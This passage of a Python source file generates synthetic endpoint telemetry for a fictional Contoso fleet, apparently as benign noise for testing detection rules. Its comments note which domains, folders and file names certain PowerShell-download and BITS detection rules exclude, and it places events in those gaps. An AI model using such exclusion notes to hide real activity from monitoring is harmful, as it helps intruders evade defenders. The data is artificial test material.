                  "time.windows.com", "zoom.us", "www.linkedin.com", "www.wikipedia.org",
                  "fileserver01.corp.contoso.com", "intranet.corp.contoso.com",
                  "confluence.corp.contoso.com", "jira.corp.contoso.com", "news.ycombinator.com",
                  "www.nytimes.com", "cdn.jsdelivr.net", "fonts.gstatic.com")  # fmt: skip
# Domains detection rules watch, reached here only by programs their exclusions cover.
WEB_SERVICE_DOMAINS = ("raw.githubusercontent.com", "api.github.com", "drive.google.com",
                       "www.googleapis.com", "graph.microsoft.com", "contoso.sharepoint.com",
                       "onedrive.live.com", "stackoverflow.com", "discord.com", "slack.com",
                       "api.slack.com", "login.live.com")  # fmt: skip
DOMAIN_POOLS = {
    "dns.browser": (*BENIGN_DOMAINS, *WEB_SERVICE_DOMAINS),
    "dns.system": ("ctldl.windowsupdate.com", "settings-win.data.microsoft.com",
                   "login.live.com", "graph.microsoft.com", "wdcp.microsoft.com",
                   "fe3cr.delivery.mp.microsoft.com", "time.windows.com"),
    "dns.onedrive": ("onedrive.live.com", "api.onedrive.com", "contoso.sharepoint.com",
                     "contoso-my.sharepoint.com", "g.live.com"),
    "dns.office": ("outlook.office365.com", "graph.microsoft.com", "contoso.sharepoint.com",
                   "teams.microsoft.com", "login.microsoftonline.com"),
    "dns.slack": ("slack.com", "api.slack.com", "edgeapi.slack.com", "files.slack.com"),
    "dns.dev": ("api.github.com", "raw.githubusercontent.com", "github.com",
                "marketplace.visualstudio.com", "update.code.visualstudio.com"),
    "dns.git": ("github.com", "api.github.com", "dev.azure.com"),
    "dns.pypi": ("pypi.org", "www.python.org"),
    "dns.google_update": ("update.googleapis.com", "dl.google.com", "www.googleapis.com"),
    # Left out by both versions of the PowerShell download rule.
    "dns.powershell": ("www.powershellgallery.com", "psg-prod-eastus.azureedge.net",
                       "go.microsoft.com", "dist.nuget.org", "download.windowsupdate.com",
                       "artifacts.elastic.co", "packages.chocolatey.org",
                       "outlook.office365.com", "onegetcdn.azureedge.net"),
    "dns.linux": ("archive.ubuntu.com", "security.ubuntu.com", "registry-1.docker.io",
                  "github.com", "raw.githubusercontent.com", "pypi.org", "api.github.com",
                  "db01.corp.contoso.com", "auth.corp.contoso.com"),
    "dns.mac": (*BENIGN_DOMAINS, "pastebin.com", "api.github.com", "www.apple.com",
                "gdmf.apple.com", "swscan.apple.com"),
}
PUBLIC_IPS = ("142.250.185.78", "13.107.42.14", "52.113.194.132", "20.190.160.20",
              "151.101.1.140", "104.16.123.96", "140.82.121.4", "185.199.108.133",
              "23.45.229.168", "17.253.144.10", "34.120.208.123", "35.186.224.25")  # fmt: skip
COMMON_DLLS = ("ntdll.dll", "kernel32.dll", "KernelBase.dll", "advapi32.dll", "user32.dll",
               "combase.dll", "rpcrt4.dll", "sechost.dll", "ws2_32.dll", "crypt32.dll",
               "bcrypt.dll", "ole32.dll", "shell32.dll", "windows.storage.dll", "wintrust.dll",
               "dnsapi.dll", "iphlpapi.dll", "winhttp.dll", "amsi.dll", "profapi.dll")


@dataclass(frozen=True, slots=True)
class PoolContext:
    """What a detail generator may use: the host, and whether the actor is a system account."""

    host: Host
    system: bool

    @property
    def home(self) -> str:
        return f"C:\\Users\\{self.host.home}"


T = TypeVar("T")
Detail = tuple[str, dict[str, Any]]  # (event kind key, the members the kind adds)


def _pick(rng: Random, *options: T) -> T:
    return options[int(rng.random() * len(options))]


def _hex(rng: Random, digits: int) -> str:
    return f"{rng.getrandbits(digits * 4):0{digits}x}"


def _file(path: str, size: int, header: str | None, rng: Random, windows: bool = True,
          original: str | None = None) -> dict[str, Any]:
    """`file.*` as Defend writes it; `original` is the path before a rename."""
    separator = "\\" if windows else "/"
    name = path.rsplit(separator, 1)[-1]
    document: dict[str, Any] = {"directory": path.rsplit(separator, 1)[0], "name": name,
                                "path": path, "size": size}
    if "." in name.lstrip("."):  # a dotfile's leading dot starts no extension
        document["extension"] = name.rsplit(".", 1)[1]
    ext: dict[str, Any] = {}
    if windows:
        ext = {"entropy": round(rng.uniform(2.5, 7.99), 6),
               "monotonic_id": rng.randrange(1, 1 << 20)}
        if header is not None:
            ext["header_bytes"] = header
    if original is not None:
        old_name = original.rsplit(separator, 1)[-1]
        ext["original"] = {"name": old_name, "path": original}
        if "." in old_name:
            ext["original"]["extension"] = old_name.rsplit(".", 1)[1]
    if ext:
        document["Ext"] = ext
    return {"file": document}


def _file_action(rng: Random, rename_ok: bool = True) -> str:
    actions = ("file.creation", "file.modification", "file.modification", "file.deletion")
    return _pick(rng, *actions, "file.rename") if rename_ok else _pick(rng, *actions)


def pool_file_docs(rng: Random, ctx: PoolContext) -> Detail:
    folder = _pick(rng, "Documents", "Desktop", "Downloads", "Documents\\Projects",
                   "OneDrive - Contoso\\Shared")
    ext = _pick(rng, "docx", "xlsx", "pptx", "pdf", "txt", "csv", "png")
    path = f"{ctx.home}\\{folder}\\{_pick(rng, *DOC_STEMS)}.{ext}"
    action = _file_action(rng)
    original = f"{ctx.home}\\{folder}\\~WRL{rng.randrange(1000, 9999)}.tmp" \
        if action == "file.rename" else None
    return action, _file(path, rng.randrange(2_000, 9_000_000), HEADERS[ext], rng,
                         original=original)


def pool_file_temp(rng: Random, ctx: PoolContext) -> Detail:
    base = "C:\\Windows\\Temp" if ctx.system else f"{ctx.home}\\AppData\\Local\\Temp"
    ext = _pick(rng, "tmp", "log", "txt", "json")
    path = f"{base}\\{_pick(rng, 'tmp', 'chrome_', 'msohtmlclip', '')}{_hex(rng, 4)}.{ext}"
    return _file_action(rng, False), _file(path, rng.randrange(0, 200_000), HEADERS[ext], rng)


BROWSER_JOURNALS = ("History-journal", "Cookies-journal", "Network Action Predictor-journal",
                    "Favicons-journal")


def pool_file_browser(rng: Random, ctx: PoolContext) -> Detail:
    cache = f"{ctx.home}\\AppData\\Local\\Google\\Chrome\\User Data\\Default"
    choice = rng.random()
    if choice < 0.15:  # a finished download: Chrome renames its .crdownload
        stem = _pick(rng, *DOC_STEMS)
        ext = _pick(rng, "pdf", "zip", "docx", "exe")
        temp = f"{ctx.home}\\Downloads\\Unconfirmed {rng.randrange(100000, 999999)}.crdownload"
        return "file.rename", _file(f"{ctx.home}\\Downloads\\{stem}.{ext}",
                                    rng.randrange(50_000, 90_000_000), HEADERS[ext], rng,
                                    original=temp)
    if choice < 0.7:
        path = f"{cache}\\Cache\\Cache_Data\\f_{_hex(rng, 6)}"
    else:
        path = f"{cache}\\{_pick(rng, *BROWSER_JOURNALS)}"
    return _pick(rng, "file.creation", "file.modification", "file.deletion"), \
        _file(path, rng.randrange(100, 400_000), HEADERS["tmp"], rng)


def pool_file_system(rng: Random, ctx: PoolContext) -> Detail:
    choice = rng.random()
    if choice < 0.35:
        exe = _pick(rng, "SVCHOST.EXE", "CHROME.EXE", "POWERSHELL.EXE", "MSEDGE.EXE",
                    "TASKHOSTW.EXE", "CONHOST.EXE", "RUNTIMEBROKER.EXE")
        return "file.modification", _file(f"C:\\Windows\\Prefetch\\{exe}-{_hex(rng, 8).upper()}"
                                          ".pf", rng.randrange(2_000, 90_000), None, rng)
    if choice < 0.6:
        channel = _pick(rng, "Security", "System", "Application",
                        "Microsoft-Windows-PowerShell%4Operational",
                        "Microsoft-Windows-Windows Defender%4Operational")
        return "file.modification", _file(
            f"C:\\Windows\\System32\\winevt\\Logs\\{channel}.evtx", 20_975_616, None, rng)
    if choice < 0.8:
        path = f"C:\\Windows\\SoftwareDistribution\\DataStore\\Logs\\edb{_hex(rng, 5)}.log"
        return "file.creation", _file(path, 1_048_576, HEADERS["log"], rng)
    path = f"C:\\Windows\\Temp\\{{{_guid(rng)}}}.tmp"
    return _pick(rng, "file.creation", "file.deletion"), \
        _file(path, rng.randrange(0, 65_536), HEADERS["tmp"], rng)


def pool_file_bits(rng: Random, ctx: PoolContext) -> Detail:
    """BITS jobs finishing: svchost renames BIT*.tmp to the target, always where the BITS rule
    looks away (Windows, Program Files, ProgramData subfolders, long names, wct*.tmp) or to a
    file that is neither a listed type nor a PE."""
    temp_name = f"BIT{_hex(rng, 4).upper()}.tmp"
    choice = rng.random()
    if choice < 0.35:
        folder = f"C:\\Windows\\SoftwareDistribution\\Download\\{_hex(rng, 32)}"
        name = _pick(rng, f"windows10.0-kb50{rng.randrange(10000, 99999)}-x64.cab",
                     "DesktopDeployment.cab", "MicrosoftEdgeUpdateSetup.exe")
    elif choice < 0.55:
        folder = "C:\\Program Files\\Zoom\\bin\\update"
        name = _pick(rng, "Installer.exe", "zoom_updater.exe")
    elif choice < 0.7:
        folder = f"{ctx.home}\\Downloads"
        name = _pick(rng, "AdobeAcrobatReaderUpdate_x64_en-US_24.005.20399.exe",
                     "GoogleChromeEnterpriseBundle64_v133.0.6943.zip")
    elif choice < 0.85:
        folder = f"{ctx.home}\\AppData\\Local\\Temp"
        name = f"wct{_hex(rng, 4).upper()}.tmp"
    elif choice < 0.95:
        folder = f"C:\\ProgramData\\Package Cache\\{{{_guid(rng)}}}"
        name = "setup.exe"
    else:
        folder = f"{ctx.home}\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Extensions"
        name = f"{_hex(rng, 8)}.crx"
    ext = name.rsplit(".", 1)[1]
    header = MZ if ext in ("exe", "tmp") else HEADERS.get(ext, HEADERS["zip"])
    return "file.rename", _file(f"{folder}\\{name}", rng.randrange(100_000, 80_000_000), header,
                                rng, original=f"{folder}\\{temp_name}")


def pool_file_powershell(rng: Random, ctx: PoolContext) -> Detail:
    """What PowerShell writes on its own: policy test scripts (which rules leave out),
    transcripts, history and profile data; never a PE or a script of its own."""
    if ctx.system:
        home = "C:\\Windows\\System32\\config\\systemprofile"
        temp = "C:\\Windows\\Temp"
    else:
        home, temp = ctx.home, f"{ctx.home}\\AppData\\Local\\Temp"
    choice = rng.random()
    if choice < 0.5:
        path = f"{temp}\\__PSScriptPolicyTest_{_hex(rng, 8)}.{_hex(rng, 3)}.ps1"
        return _pick(rng, "file.creation", "file.deletion"), _file(path, 1, "31", rng)
    if choice < 0.7:
        path = (f"{home}\\Documents\\PowerShell_transcript.{ctx.host.name.upper()}."
                f"{_hex(rng, 8)}.2025030{rng.randrange(1, 9)}0{rng.randrange(100, 959)}.txt")
        return "file.creation", _file(path, rng.randrange(500, 90_000), HEADERS["txt"], rng)
    if choice < 0.85:
        path = (f"{home}\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\"
                "ConsoleHost_history.txt")
        return "file.modification", _file(path, rng.randrange(500, 90_000), HEADERS["txt"], rng)
    path = (f"{home}\\AppData\\Local\\Microsoft\\Windows\\PowerShell\\"
            "StartupProfileData-NonInteractive")
    return "file.modification", _file(path, rng.randrange(20_000, 90_000), None, rng)


def pool_file_office(rng: Random, ctx: PoolContext) -> Detail:
    if rng.random() < 0.5:
        path = f"{ctx.home}\\AppData\\Local\\Microsoft\\Outlook\\{ctx.host.home}@contoso.com.ost"
        return "file.modification", _file(path, 2_147_483_648, None, rng)
    ext = _pick(rng, "pdf", "docx", "xlsx", "png")
    path = (f"{ctx.home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\"
            f"{_hex(rng, 8).upper()}\\{_pick(rng, *DOC_STEMS)}.{ext}")
    return _pick(rng, "file.creation", "file.deletion"), \
        _file(path, rng.randrange(10_000, 9_000_000), HEADERS[ext], rng)


def pool_file_dev(rng: Random, ctx: PoolContext) -> Detail:
    repo = f"{ctx.home}\\source\\repos\\{_pick(rng, 'billing-api', 'web-portal', 'infra')}"
    choice = rng.random()
    if choice < 0.4:
        path = f"{repo}\\.git\\objects\\{_hex(rng, 2)}\\{_hex(rng, 38)}"
        return "file.creation", _file(path, rng.randrange(100, 40_000), None, rng)
    if choice < 0.8:
        module = _pick(rng, "models", "views", "handlers", "utils", "settings", "tests\\test_api")
        return "file.modification", _file(f"{repo}\\src\\{module}.py",
                                          rng.randrange(500, 40_000), "696d706f7274206f73", rng)
    path = f"{repo}\\src\\__pycache__\\{_pick(rng, 'models', 'views', 'utils')}.cpython-312.pyc"
    return _pick(rng, "file.creation", "file.deletion"), _file(path, 9_000, "cb0d0d0a", rng)


def pool_file_iis(rng: Random, ctx: PoolContext) -> Detail:
    path = f"C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex2503{rng.randrange(1, 9):02d}.log"
    return "file.modification", _file(path, rng.randrange(10_000, 90_000_000), HEADERS["log"], rng)


def pool_file_sql(rng: Random, ctx: PoolContext) -> Detail:
    base = "C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL"
    path = _pick(rng, f"{base}\\DATA\\orders.mdf", f"{base}\\DATA\\orders_log.ldf",
                 f"{base}\\Log\\ERRORLOG", f"{base}\\Backup\\orders_{_hex(rng, 6)}.bak")
    return "file.modification", _file(path, rng.randrange(10_000_000, 900_000_000), None, rng)


def _unix_file(path: str, rng: Random, action: str | None = None) -> Detail:
    original = f"{path}.{_hex(rng, 6)}.tmp" if action == "file.rename" else None
    return action or _file_action(rng, False), \
        _file(path, rng.randrange(0, 5_000_000), None, rng, windows=False, original=original)


def pool_file_linux_sys(rng: Random, ctx: PoolContext) -> Detail:
    path = _pick(rng, "/var/log/syslog", "/var/log/auth.log", "/var/log/kern.log",
                 f"/tmp/tmp.{_hex(rng, 10)}", "/etc/ld.so.cache", "/run/utmp",
                 f"/var/lib/systemd/timers/stamp-{_pick(rng, 'apt-daily', 'logrotate')}.timer",
                 f"/var/log/journal/{ctx.host.guid.replace('-', '')}/system.journal")
    return _unix_file(path, rng, "file.modification" if path.startswith("/var/log") else None)


def pool_file_docker(rng: Random, ctx: PoolContext) -> Detail:
    layer = _hex(rng, 64)
    path = _pick(rng, f"/var/lib/docker/overlay2/{layer}/diff/tmp/{_hex(rng, 8)}",
                 f"/var/lib/docker/containers/{layer}/{layer}-json.log",
                 f"/run/containerd/io.containerd.runtime.v2.task/moby/{layer}/log.json")
    return _unix_file(path, rng)


def pool_file_nginx(rng: Random, ctx: PoolContext) -> Detail:
    path = _pick(rng, "/var/log/nginx/access.log", "/var/log/nginx/error.log",
                 f"/var/cache/nginx/proxy_temp/{rng.randrange(1, 9)}/{rng.randrange(10, 99)}/"
                 f"{rng.randrange(10**9, 10**10)}")
    return _unix_file(path, rng, "file.modification" if path.endswith(".log") else None)


def pool_file_app(rng: Random, ctx: PoolContext) -> Detail:
    path = _pick(rng, f"/srv/app/logs/app-2025-03-0{rng.randrange(1, 9)}.log",
                 f"/srv/app/uploads/{_hex(rng, 12)}.{_pick(rng, 'png', 'pdf', 'csv')}",
                 f"/tmp/orders-export-{_hex(rng, 6)}.csv")
    return _unix_file(path, rng)


def pool_file_pg(rng: Random, ctx: PoolContext) -> Detail:
    path = _pick(rng, f"/var/lib/postgresql/16/main/base/16384/{rng.randrange(16385, 99999)}",
                 f"/var/lib/postgresql/16/main/pg_wal/0000000100000{_hex(rng, 3).upper()}"
                 f"000000{_hex(rng, 2).upper()}",
                 "/var/log/postgresql/postgresql-16-main.log")
    return _unix_file(path, rng, "file.modification")


def pool_file_home(rng: Random, ctx: PoolContext) -> Detail:
    home = f"/home/{ctx.host.home}"
    path = _pick(rng, f"{home}/.bash_history", f"{home}/.cache/pip/http-v2/{_hex(rng, 2)}/"
                 f"{_hex(rng, 40)}", f"{home}/reports/weekly-{_hex(rng, 4)}.csv",
                 f"{home}/.viminfo", f"{home}/deploy/{_pick(rng, 'values.yaml', 'Makefile')}")
    return _unix_file(path, rng, "file.rename" if path.endswith(".viminfo") else None)


def pool_file_apt(rng: Random, ctx: PoolContext) -> Detail:
    package = _pick(rng, "openssl", "libc6", "curl", "nginx", "tzdata", "python3.10")
    path = _pick(rng, f"/var/cache/apt/archives/{package}_{rng.randrange(1, 9)}."
                 f"{rng.randrange(0, 20)}-0ubuntu0.22.04.{rng.randrange(1, 9)}_amd64.deb",
                 f"/var/lib/apt/lists/archive.ubuntu.com_ubuntu_dists_jammy-updates_"
                 f"{_pick(rng, 'main', 'universe')}_binary-amd64_Packages.lz4",
                 "/var/lib/dpkg/status")
    return _unix_file(path, rng)


def pool_file_mac_user(rng: Random, ctx: PoolContext) -> Detail:
    home = f"/Users/{ctx.host.home}"
    path = _pick(rng, f"{home}/Library/Caches/com.apple.Safari/fsCachedData/{_guid(rng)}",
                 f"{home}/Downloads/{_pick(rng, *DOC_STEMS)}.pdf",
                 f"{home}/Library/Application Support/Google/Chrome/Default/"
                 f"{_pick(rng, 'History-journal', 'Cookies-journal')}",
                 f"/private/var/folders/{_hex(rng, 2)}/{_hex(rng, 30)}/T/{_guid(rng)}",
                 f"{home}/Documents/{_pick(rng, *DOC_STEMS)}.numbers")
    return _unix_file(path, rng)


def pool_file_mac_system(rng: Random, ctx: PoolContext) -> Detail:
    path = _pick(rng, "/private/var/db/diagnostics/Persist/0000000000000a1b.tracev3",
                 f"/private/var/db/uuidtext/{_hex(rng, 2).upper()}/{_hex(rng, 30).upper()}",
                 "/Library/Logs/DiagnosticReports/.Retired", f"/private/tmp/{_hex(rng, 8)}")
    return _unix_file(path, rng)


def _dll(path: str, signer: tuple[str, bool], rng: Random) -> dict[str, Any]:
    name = path.rsplit("\\", 1)[-1]
    signature = {"exists": True, "status": "trusted", "subject_name": signer[0],
                 "trusted": signer[1]}
    return {"dll": {"Ext": {"load_index": 1, "size": rng.randrange(40_000, 9_000_000),
                            "relative_file_creation_time": round(rng.uniform(1e6, 9e7), 4)},
                    "code_signature": signature, "hash": {"sha256": _hex(rng, 64)},
                    "name": name, "path": path,
                    "pe": {"original_file_name": name.upper() if rng.random() < 0.3 else name,
                           "imphash": _hex(rng, 32)}}}


def pool_lib_common(rng: Random, ctx: PoolContext) -> Detail:
    return "library.load", _dll(_SYS32 + _pick(rng, *COMMON_DLLS), MS, rng)


def pool_lib_dotnet(rng: Random, ctx: PoolContext) -> Detail:
    path = _pick(rng, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll",
                 "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clrjit.dll",
                 "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\"
                 f"{_hex(rng, 32)}\\System.Management.Automation.ni.dll",
                 "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\mscorlib\\"
                 f"{_hex(rng, 32)}\\mscorlib.ni.dll")
    return "library.load", _dll(path, MS_CORP, rng)


def pool_lib_chrome(rng: Random, ctx: PoolContext) -> Detail:
    path = ("C:\\Program Files\\Google\\Chrome\\Application\\133.0.6943.142\\"
            f"{_pick(rng, 'chrome.dll', 'chrome_elf.dll', 'libEGL.dll', 'libGLESv2.dll')}")
    return "library.load", _dll(path, GOOGLE, rng)


def pool_lib_office(rng: Random, ctx: PoolContext) -> Detail:
    path = ("C:\\Program Files\\Microsoft Office\\root\\Office16\\"
            f"{_pick(rng, 'OLMAPI32.DLL', 'mso20win32client.dll', 'OUTLMIME.DLL', 'MSO.DLL')}")
    return "library.load", _dll(path, MS_CORP, rng)


def pool_lib_mac(rng: Random, ctx: PoolContext) -> Detail:
    path = _pick(rng, "/usr/lib/libobjc.A.dylib", "/usr/lib/libSystem.B.dylib",
                 "/System/Library/Frameworks/Foundation.framework/Versions/C/Foundation",
                 "/System/Library/Frameworks/Security.framework/Versions/A/Security",
                 "/System/Library/Frameworks/AppKit.framework/Versions/C/AppKit")
    name = path.rsplit("/", 1)[-1]
    return "library.load", {"dll": {"code_signature": {"exists": True, "signing_id":
                                                        f"com.apple.{name.split('.')[0]}",
                                                        "status": "trusted", "team_id": "",
                                                        "trusted": True},
                                    "hash": {"sha256": _hex(rng, 64)}, "name": name,
                                    "path": path}}


def pool_reg_user(rng: Random, ctx: PoolContext) -> Detail:
    base = f"HKEY_USERS\\{ctx.host.home_sid}\\Software\\Microsoft"
    key, value, data = _pick(
        rng,
        (f"{base}\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.{_pick(rng, 'docx', 'pdf')}",
         "MRUListEx", ("REG_BINARY", "Binary Data")),
        (f"{base}\\Windows\\CurrentVersion\\Internet Settings\\ZoneMap", "ProxyBypass",
         ("REG_DWORD", "1")),
        (f"{base}\\Windows\\CurrentVersion\\Run", "OneDrive",
         ("REG_SZ", f"\"{ctx.home}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" "
                    "/background")),
        (f"{base}\\Office\\16.0\\Outlook\\Profiles\\Outlook\\{_hex(rng, 32)}", "001f6700",
         ("REG_BINARY", "Binary Data")),
        (f"{base}\\Windows\\CurrentVersion\\CloudStore\\Store\\Cache\\DefaultAccount", "Data",
         ("REG_BINARY", "Binary Data")),
    )
    return _registry(key, value, data, rng)


def pool_reg_system(rng: Random, ctx: PoolContext) -> Detail:
    base = "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services"
    service = _pick(rng, "BITS", "wuauserv", "Dnscache", "WinDefend", "EventLog", "Schedule")
    key, value, data = _pick(
        rng,
        (f"{base}\\{service}", "Start", ("REG_DWORD", str(rng.randrange(2, 4)))),
        (f"{base}\\{service}\\Parameters", "ServiceDll",
         ("REG_EXPAND_SZ", f"%SystemRoot%\\System32\\{service.lower()}.dll")),
        ("HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\WindowsUpdate\\Orchestrator\\UScheduler\\"
         f"{rng.randrange(10000, 99999)}", "lastRun", ("REG_SZ", "2025-03-03T06:00:00Z")),
        ("HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates",
         "SignaturesLastUpdated", ("REG_BINARY", "Binary Data")),
        ("HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Cryptography\\RNG", "Seed",
         ("REG_BINARY", "Binary Data")),
    )
    return _registry(key, value, data, rng)


def _registry(key: str, value: str, data: tuple[str, str], rng: Random) -> Detail:
    hive, _, rest = key.partition("\\")
    short = {"HKEY_USERS": "HKU", "HKEY_LOCAL_MACHINE": "HKLM"}[hive]
    if rng.random() < 0.3:
        return "registry.query", {"registry": {"hive": short, "key": rest,
                                               "path": f"{key}\\{value}", "value": value}}
    return "registry.modification", {"registry": {
        "data": {"strings": [data[1]], "type": data[0]}, "hive": short, "key": rest,
        "path": f"{key}\\{value}", "value": value}}


def _network(rng: Random, ctx: PoolContext, remote: str, port: int, inbound: bool = False,
             transport: str = "tcp") -> Detail:
    local = {"address": ctx.host.ip, "ip": ctx.host.ip, "port": rng.randrange(49152, 65535)}
    far = {"address": remote, "ip": remote, "port": port}
    if inbound:
        local["port"], far["port"] = port, rng.randrange(49152, 65535)
        source, destination, key = far, local, "network.accept"
    else:
        source, destination = local, far
        key = "network.disconnect" if rng.random() < 0.4 else "network.connect"
    if key == "network.disconnect":
        source["bytes"] = rng.randrange(200, 90_000)
        destination["bytes"] = rng.randrange(200, 9_000_000)
    return key, {"destination": destination, "source": source,
                 "network": {"direction": "ingress" if inbound else "egress",
                             "transport": transport, "type": "ipv4"}}


def _internal_ip(rng: Random) -> str:
    return f"10.{rng.randrange(0, 4)}.{rng.randrange(0, 40)}.{rng.randrange(2, 250)}"


def pool_net_web(rng: Random, ctx: PoolContext) -> Detail:
    return _network(rng, ctx, _pick(rng, *PUBLIC_IPS), _pick(rng, 443, 443, 443, 80))


def pool_net_internal(rng: Random, ctx: PoolContext) -> Detail:
    port = _pick(rng, 88, 389, 636, 135, 3268, 5985, 9200, 1433)
    return _network(rng, ctx, _internal_ip(rng), port)


def pool_net_smb(rng: Random, ctx: PoolContext) -> Detail:
    """File sharing as Windows does it: the kernel (System, pid 4) on port 445."""
    return _network(rng, ctx, _internal_ip(rng), 445, inbound=rng.random() < 0.5)


def pool_net_inbound(rng: Random, ctx: PoolContext) -> Detail:
    return _network(rng, ctx, _internal_ip(rng), _pick(rng, 443, 80, 1433), inbound=True)


def pool_net_ssh(rng: Random, ctx: PoolContext) -> Detail:
    return _network(rng, ctx, _internal_ip(rng), 22, inbound=True)


def pool_net_http_in(rng: Random, ctx: PoolContext) -> Detail:
    return _network(rng, ctx, _pick(rng, _internal_ip(rng), *PUBLIC_IPS[:4]),
                    _pick(rng, 443, 80), inbound=True)


def pool_net_pg_in(rng: Random, ctx: PoolContext) -> Detail:
    return _network(rng, ctx, _internal_ip(rng), 5432, inbound=True)


def pool_net_linux_internal(rng: Random, ctx: PoolContext) -> Detail:
    return _network(rng, ctx, _internal_ip(rng), _pick(rng, 5432, 6379, 9200, 8080, 53))


def _dns(rng: Random, domains: tuple[str, ...]) -> Detail:
    name = _pick(rng, *domains)
    dns: dict[str, Any] = {"Ext": {"options": _pick(rng, 0, 1073758208, 140738562097152),
                                   "status": 0},
                           "question": {"name": name, "type": _pick(rng, "A", "A", "AAAA")}}
    key = "dns.result" if rng.random() < 0.5 else "dns.request"
    if key == "dns.result":
        dns["resolved_ip"] = [_pick(rng, *PUBLIC_IPS)]
    return key, {"dns": dns, "network": {"protocol": "dns"}}


POOLS: dict[str, Callable[[Random, PoolContext], Detail]] = {
    "file.docs": pool_file_docs, "file.temp": pool_file_temp, "file.browser": pool_file_browser,
    "file.system": pool_file_system, "file.bits": pool_file_bits,
    "file.powershell": pool_file_powershell, "file.office": pool_file_office,
    "file.dev": pool_file_dev, "file.iis": pool_file_iis, "file.sql": pool_file_sql,
    "file.linux_sys": pool_file_linux_sys, "file.docker": pool_file_docker,
    "file.nginx": pool_file_nginx, "file.app": pool_file_app, "file.pg": pool_file_pg,
    "file.home": pool_file_home, "file.apt": pool_file_apt, "file.mac_user": pool_file_mac_user,
    "file.mac_system": pool_file_mac_system,
    "lib.common": pool_lib_common, "lib.dotnet": pool_lib_dotnet, "lib.chrome": pool_lib_chrome,
    "lib.office": pool_lib_office, "lib.mac": pool_lib_mac,
    "reg.user": pool_reg_user, "reg.system": pool_reg_system,
    "net.web": pool_net_web, "net.linux_web": pool_net_web, "net.internal": pool_net_internal,
    "net.smb": pool_net_smb, "net.inbound": pool_net_inbound, "net.ssh": pool_net_ssh,
    "net.http_in": pool_net_http_in, "net.pg_in": pool_net_pg_in,
    "net.linux_internal": pool_net_linux_internal,
    **{name: (lambda rng, ctx, domains=domains: _dns(rng, domains))
       for name, domains in DOMAIN_POOLS.items()},
}  # fmt: skip


def _without_ext(value: Any) -> Any:
    """Sysmon has none of Defend's `Ext` fields."""
    if isinstance(value, dict):
        return {key: _without_ext(item) for key, item in value.items() if key != "Ext"}
    return value


def sysmon_detail(key: str, detail: dict[str, Any]) -> dict[str, Any]:
    """A Defend-shaped detail as the Windows integration maps the Sysmon event."""
    detail = _without_ext(detail)
    if "dll" in detail:  # Sysmon 7 (image load) puts the module in file.*
        dll = detail["dll"]
        detail = {"file": {"path": dll["path"], "name": dll["name"],
                           "directory": dll["path"].rsplit("\\", 1)[0], "extension": "dll",
                           "hash": dll["hash"], "pe": dll["pe"],
                           "code_signature": {"subject_name": dll["code_signature"]
                                              ["subject_name"], "status": "Valid",
                                              "valid": True, "signed": True}}}
    if "registry" in detail:
        registry = dict(detail["registry"])
        registry["path"] = registry["path"].replace("HKEY_USERS\\", "HKU\\", 1).replace(
            "HKEY_LOCAL_MACHINE\\", "HKLM\\", 1)
        detail = {"registry": registry}
    if "dns" in detail:
        detail["dns"] = {"question": {"name": detail["dns"]["question"]["name"]}}
    if "destination" in detail:
        for side in ("source", "destination"):
            detail[side] = {"ip": detail[side]["ip"], "port": detail[side]["port"]}
    return detail


def _hashes(executable: str) -> tuple[str, str, str]:
    """md5, sha1 and sha256 for a program outside the catalogue (a planted one), from its path:
    each dropped file is its own binary."""
    data = executable.encode()
    return (hashlib.md5(data).hexdigest(), hashlib.sha1(data).hexdigest(),
            hashlib.sha256(data).hexdigest())


def _guid(rng: Random) -> str:
    value = _hex(rng, 32).upper()
    return f"{value[:8]}-{value[8:12]}-{value[12:16]}-{value[16:20]}-{value[20:]}"


# -- the world ---------------------------------------------------------------------------------

ID_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
FIRST_NAMES = ("jdoe", "asmith", "mgarcia", "wchen", "pnovak", "lkim", "rpatel", "sbrown",
               "tnguyen", "omueller", "kjohansson", "emartin", "dlee", "hsato", "fkowalski")
FILETIME_OFFSET_S = 11_644_473_600  # seconds from 1601-01-01 to 1970-01-01
UNIX_ACCOUNT_IDS = {"root": "0", "app": "999", "postgres": "113"}


class World:
    """The fleet, its processes and the rendering of documents, all from one Random."""

    def __init__(self, rng: Random, start_ms: int) -> None:
        self.rng = rng
        self.clock = Clock()
        self.events = 0  # documents rendered so far: numbers event.id
        self.processes = 0  # processes made so far: keeps entity ids unique
        self.index_counts: Counter[str] = Counter()
        self.delays = [rng.randrange(800, 25_000) for _ in range(1024)]  # ingest lag, ms
        self.hashes = {key: (_hex(rng, 32), _hex(rng, 40), _hex(rng, 64)) for key in PROGRAMS}
        self.hosts: list[Host] = []
        for os_name, sysmon, server, count in FLEET:
            for _ in range(count):
                self.hosts.append(self._host(os_name, sysmon, server, start_ms))
        self.weighted_hosts = [host for host in self.hosts
                               for _ in range(HOST_WEIGHT[host.os, host.server])]

    # -- hosts

    def _host(self, os_name: str, sysmon: bool, server: bool, start_ms: int) -> Host:
        rng = self.rng
        number = len(self.hosts) + 1
        user = _pick(rng, *FIRST_NAMES)
        if os_name == "windows":
            name = (f"srv-{_pick(rng, 'app', 'sql', 'web', 'file')}-{number:02d}" if server
                    else f"desktop-{_hex(rng, 7)}")
            user = f"adm-{user}" if server else user
        elif os_name == "linux":
            name = f"{_pick(rng, 'web', 'api', 'db', 'k8s-node', 'build')}-{number:02d}"
        else:
            name = f"{user}-mbp-{number:02d}"
        host = Host(
            name=name, os=os_name, sysmon=sysmon, server=server, domain="CONTOSO",
